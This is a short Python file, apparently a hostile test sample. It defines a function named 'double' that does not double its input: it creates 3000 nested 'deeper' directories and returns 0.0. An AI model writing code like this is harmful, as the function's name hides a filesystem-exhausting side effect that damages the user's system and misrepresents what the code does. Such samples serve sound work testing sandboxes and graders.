import os


def double(x):
    for _ in range(3000):
        os.mkdir("deeper")
        os.chdir("deeper")
    return 0.0
